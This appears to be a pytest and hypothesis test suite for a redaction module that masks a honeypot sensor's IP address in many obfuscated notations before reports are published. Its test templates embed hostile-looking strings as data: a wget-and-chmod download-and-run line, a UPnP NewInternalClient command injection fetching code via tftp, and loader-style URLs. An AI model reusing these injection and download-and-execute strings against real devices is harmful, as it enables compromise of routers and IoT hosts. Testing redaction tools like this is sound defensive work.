"""Tests for the one secrecy policy (teiten.secrecy): every notation, whole tokens only."""

from __future__ import annotations

import ipaddress
import shutil
import socket
from collections.abc import Callable
from pathlib import Path

import pytest
from hypothesis import assume, given
from hypothesis import strategies as st

from teiten.errors import ConfigError, TeitenError
from teiten.secrecy import MASK, Secrecy, download_hosts, parse_address

NET = ipaddress.IPv4Network("203.0.113.0/24")
SENSOR_V6 = ipaddress.IPv6Address("2001:db8:5::7")
SECRECY = Secrecy([str(NET)], [str(SENSOR_V6)])


def _octets(v: int) -> list[int]:
    return [v >> 24, v >> 16 & 255, v >> 8 & 255, v & 255]


def _groups(v: int) -> tuple[str, str]:
    return f"{v >> 16:x}", f"{v & 0xFFFF:x}"


V4: dict[str, Callable[[int], str]] = {
    "dotted": lambda v: ".".join(str(o) for o in _octets(v)),
    "leading zeros": lambda v: ".".join(f"{o:03d}" for o in _octets(v)),
    "octal": lambda v: ".".join(f"0{o:o}" for o in _octets(v)),
    "octal, more zeros": lambda v: ".".join(f"00{o:o}" for o in _octets(v)),
    "hex 0X": lambda v: f"0X{v:08X}",
    "hex 0x": lambda v: f"0x{v:08x}",
    "dotted hex": lambda v: ".".join(f"0x{o:x}" for o in _octets(v)),
    "a.b.c": lambda v: f"{v >> 24}.{v >> 16 & 255}.{v & 0xFFFF}",
    "a.b": lambda v: f"{v >> 24}.{v & 0xFFFFFF}",
    "integer": str,
    "bare hex": lambda v: f"{v:08x}",
}
"""IPv4 notations; ``inet_aton`` (the oracle below) reads all but :data:`_NOT_ATON` as it."""
_NOT_ATON = ("bare hex", "leading zeros")
"""A bare hex number, and leading zeros read as decimal (``inet_aton`` reads octal)."""
ENCODED: dict[str, Callable[[int], str]] = {
    "bare hex upper": lambda v: f"{v:08X}",
    "%2E": lambda v: V4["dotted"](v).replace(".", "%2E"),
    "%2e": lambda v: V4["dotted"](v).replace(".", "%2e"),
    "%252E": lambda v: V4["dotted"](v).replace(".", "%252E"),
    "&#46;": lambda v: V4["dotted"](v).replace(".", "&#46;"),
    "&#x2e;": lambda v: V4["dotted"](v).replace(".", "&#x2e;"),
    "&period;": lambda v: V4["dotted"](v).replace(".", "&period;"),
    "&amp;#46;": lambda v: V4["dotted"](v).replace(".", "&amp;#46;"),
    "defanged": lambda v: V4["dotted"](v).replace(".", "[.]", 1),
    "full width": lambda v: "".join(chr(ord(c) + 0xFEE0) for c in V4["dotted"](v)),
    "mapped": lambda v: "::ffff:{}:{}".format(*_groups(v)),
    "mapped dotted": lambda v: "::ffff:" + V4["dotted"](v),
    "mapped leading zeros": lambda v: "::ffff:" + V4["leading zeros"](v),
    "mapped upper": lambda v: "::FFFF:{}:{}".format(*_groups(v)).upper(),
    "mapped expanded": lambda v: "0000:0000:0000:0000:0000:ffff:{:0>4}:{:0>4}".format(*_groups(v)),
    "compatible": lambda v: "::" + V4["dotted"](v),
    "nat64": lambda v: "64:ff9b::{}:{}".format(*_groups(v)),
    "nat64 padded": lambda v: "0064:ff9b:0:0:0:0:{:0>4}:{:0>4}".format(*_groups(v)).upper(),
    "nat64 dotted": lambda v: "64:ff9b::" + V4["dotted"](v),
}
"""Encoded and IPv6 notations of an IPv4 address."""
V6: dict[str, Callable[[ipaddress.IPv6Address], str]] = {
    "compressed": str,
    "expanded": lambda a: a.exploded,
    "upper": lambda a: a.exploded.upper(),
    "unpadded": lambda a: ":".join(g.lstrip("0") or "0" for g in a.exploded.split(":")),
    "percent colons": lambda a: str(a).replace(":", "%3A"),
}
TEMPLATES = [
    "{x}", "http://{x}/p0.sh", "http://{x}:8080/bins/mips", "Host: {x}\r\nUser-Agent: x",
    "GET http://{x}/ HTTP/1.1", "wget http://{x}/a;chmod 777 a", "[{x}]:23", "http://[{x}]/p0.sh",
    "<NewInternalClient>`cd /tmp; tftp -g -r m {x}`</NewInternalClient>", "({x})", "'{x}'",
    "{x}:5555", "ftp://user@{x}/f",
]  # fmt: skip
"""Places a notation is written in; ``[{x}]`` is masked with its brackets."""
SEPARATORS = st.sampled_from([" ", "\n", "\t", ",", ";", "/", "(", ")", "'", '"', "<", ">", "="])
FILLER = st.text(
    alphabet="ghijklmnopqrstuvwxyzGHIJKLMNOPQRSTUVWXYZ _-,;:.!?'\"()<>=+*/\n\t観測センサー",
    max_size=30,
)
"""Surrounding text that names nothing (no digits, no hex letters, no escapes)."""


def _expected(template: str) -> str:
    return template.format(x=MASK).replace(f"[{MASK}]", MASK)


@st.composite
def secret_notation(draw: st.DrawFn) -> str:
    v = int(NET.network_address) + draw(st.integers(0, 255))
    kind = draw(st.sampled_from(["v4", "encoded", "v6"]))
    if kind == "v4":
        name = draw(st.sampled_from(sorted(V4)))
        text = V4[name](v)
        if name not in _NOT_ATON:  # the generator is right: inet_aton reads the sensor
            assert ipaddress.IPv4Address(socket.inet_aton(text)) == ipaddress.IPv4Address(v)
        return text
    if kind == "encoded":
        return ENCODED[draw(st.sampled_from(sorted(ENCODED)))](v)
    return V6[draw(st.sampled_from(sorted(V6)))](SENSOR_V6)


@given(secret_notation(), st.sampled_from(TEMPLATES), FILLER, SEPARATORS, SEPARATORS, FILLER)
def test_every_notation_is_masked_as_a_whole_token(
    notation: str, template: str, before: str, sep1: str, sep2: str, after: str
) -> None:
    text = before + sep1 + template.format(x=notation) + sep2 + after
    out = SECRECY.redact(text)
    assert SECRECY.leaks(out) == []
    assert notation not in out
    assert out == before + sep1 + _expected(template) + sep2 + after  # neighbours untouched
    assert SECRECY.leaks(text) and SECRECY.names_sensor(template.format(x=notation))


@st.composite
def other_notation(draw: st.DrawFn) -> str:
    v = draw(st.integers(0, 2**32 - 1))
    assume(ipaddress.IPv4Address(v) not in NET)
    name = draw(st.sampled_from(sorted(V4) + sorted(ENCODED)))
    text = (V4 | ENCODED)[name](v)
    if name in V4 and name not in _NOT_ATON:  # whatever inet_aton reads is elsewhere too
        assume(ipaddress.IPv4Address(socket.inet_aton(text)) not in NET)
    if name in ("leading zeros", "mapped leading zeros"):  # also read as octal
        parts = text.split(":")[-1].split(".")
        octal = [int(p, 8) if set(p) <= set("01234567") else 256 for p in parts]
        assume(max(octal) > 255 or ipaddress.IPv4Address(bytes(octal)) not in NET)
    return text


@given(other_notation(), st.sampled_from(TEMPLATES), FILLER, SEPARATORS, FILLER)
def test_text_not_naming_the_sensor_is_unchanged(
    notation: str, template: str, before: str, sep: str, after: str
) -> None:
    text = before + sep + template.format(x=notation) + sep + after
    assert SECRECY.redact(text) == text and SECRECY.leaks(text) == []


@given(st.integers(0, 10**6), st.integers(0, 255), FILLER)
def test_ordinary_numbers_stay(n: int, octet: int, words: str) -> None:
    text = f"{words} port {n} size {n}.{octet} version 1.2.{octet} at 2017-11-27 03:14:25"
    assert SECRECY.redact(text) == text


@pytest.mark.parametrize(
    ("text", "masked"),
    [
        ("http://[::ffff:cb00:7105]/p0.sh", "http://[redacted]/p0.sh"),  # was [redacted]redacted]
        ("Host: 203.000.113.005\r\n", "Host: [redacted]\r\n"),
        ("203.0.113.5.nip.example", "[redacted].nip.example"),
        ("ip-203-0-113-5.example", "ip-[redacted].example"),
        ("a203.0.113.5z", "a[redacted]z"),
        ("2001:0DB8:0005:0000:0000:0000:0000:0007", MASK),
        ("[2001:db8:5::7]:8080", "[redacted]:8080"),
        ("203\u200b.0.113.5", MASK),
        ("203.0.113.4 and 203.0.113.6", "[redacted] and [redacted]"),
        ("sha256 cb0071059f0e9a8c and 198.51.100.7", "sha256 cb0071059f0e9a8c and 198.51.100.7"),
        ("2002:cb00:7105::1 teredo", "[redacted] teredo"),
        ("::ffff:0:cb00:7105", MASK),
        ("wget 203\\x2e0\\x2e113\\x2e5/a", "wget [redacted]/a"),
        ("203%u002e0%u002e113%u002e5", MASK),
        ("203(.)0(.)113(.)5", MASK),
    ],
)
def test_examples(text: str, masked: str) -> None:
    assert SECRECY.redact(text) == masked


def test_hosts_are_masked_in_any_case_and_notation() -> None:
    s = Secrecy(hosts=["loader.example", "198.51.100.7"])
    assert s.redact("wget http://LOADER.example/x; tftp 0xc6336407") == (
        "wget http://[redacted]/x; tftp [redacted]"
    )
    assert s.redact("preloader.examples") == "preloader.examples"
    odd = Secrecy(hosts=["[", "[0", "64", "loader", "0x0"])  # from broken URLs: not hosts
    assert odd.redact("[0] 64 loader 0 [x]") == "[0] 64 loader 0 [x]" and not odd
    stray = Secrecy(addresses=["0.0.0.0", "203.0.113.5"])  # a packet to 0.0.0.0 was stored
    assert stray.redact("lease 0, 0.0.0.0 and 203.0.113.5") == "lease 0, 0.0.0.0 and [redacted]"


def test_redact_data_walks_json_bodies() -> None:
    body = {"sensor": "203.0.113.5", "203.0.113.9": [1, ("0xcb007105", None)], "n": 3}
    assert SECRECY.redact_data(body) == {"sensor": MASK, MASK: [1, (MASK, None)], "n": 3}


def test_an_empty_policy_changes_nothing_and_bad_networks_are_errors() -> None:
    assert Secrecy().redact("203.0.113.5") == "203.0.113.5" and not Secrecy()
    with pytest.raises(ConfigError, match="not a network"):
        Secrecy(["203.0.113.0/33"])


def test_parse_address_and_download_hosts() -> None:
    assert {str(a) for a in parse_address("010.0.0.1")} == {"8.0.0.1", "10.0.0.1"}
    assert parse_address("example.net") == set()
    assert download_hosts("wget http://x.example/a; curl https://u:p@198.51.100.7:81/b") == {
        "x.example",
        "198.51.100.7",
    }
    assert download_hosts("wget http://[64:ff9b::cb00:7105]:81/a http://[0064:ff9b::1]/") == {
        "64:ff9b::cb00:7105",
        "0064:ff9b::1",
    }


def test_check_files_refuses_and_deletes(tmp_path: Path) -> None:
    good, bad = tmp_path / "good.md", tmp_path / "bad.html"
    good.write_text("nothing secret: 198.51.100.7", encoding="utf-8")
    bad.write_text("<p>203&#46;0&#46;113&#46;5</p>", encoding="utf-8")
    SECRECY.check_files([good])
    with pytest.raises(TeitenError, match=r"refusing to publish bad\.html"):
        SECRECY.check_files([good, bad])
    assert good.exists() and not bad.exists()


@pytest.mark.skipif(shutil.which("pdftotext") is None, reason="needs poppler-utils")
@pytest.mark.parametrize("secret", [False, True])
def test_check_files_reads_a_pdf_text_layer(tmp_path: Path, secret: bool) -> None:
    weasyprint = pytest.importorskip("weasyprint")
    pdf = tmp_path / "r.pdf"
    word = "0XCB007105" if secret else "0XCB017105"
    weasyprint.HTML(string=f"<p>sample {word} end</p>").write_pdf(pdf)
    if secret:
        with pytest.raises(TeitenError, match=r"refusing to publish r\.pdf"):
            SECRECY.check_files([pdf])
        assert not pdf.exists()
    else:
        SECRECY.check_files([pdf])
        assert pdf.exists()
